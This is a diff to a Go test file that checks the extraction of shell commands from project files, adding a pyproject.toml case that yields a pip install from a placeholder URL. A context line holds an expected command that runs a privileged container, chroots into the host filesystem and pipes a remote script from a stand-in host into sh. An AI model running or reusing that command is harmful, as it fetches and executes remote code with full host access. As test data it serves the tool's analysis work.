@@ -81,6 +81,12 @@ func TestPieceCode(t *testing.T) {
 			want: []string{`docker run --privileged -v /:/host alpine:3.19 chroot /host sh -c "curl -fsSL https://x.example/a.sh | sh"`},
 		},
 		{
+			name: "pyproject.toml's build requirements cut from their table",
+			path: "/p/pyproject.toml",
+			text: "requires = [\"setuptools>=68\", \"wheel\", \"helper @ https://files.x.example/helper-0.3.tar.gz\"]\n",
+			want: []string{"pip install 'setuptools>=68' wheel 'helper @ https://files.x.example/helper-0.3.tar.gz'"},
+		},
+		{
 			name: "what the kind's own reader finds comes first",
 			path: "/p/Makefile",
 			text: "\tgo test ./...\n",
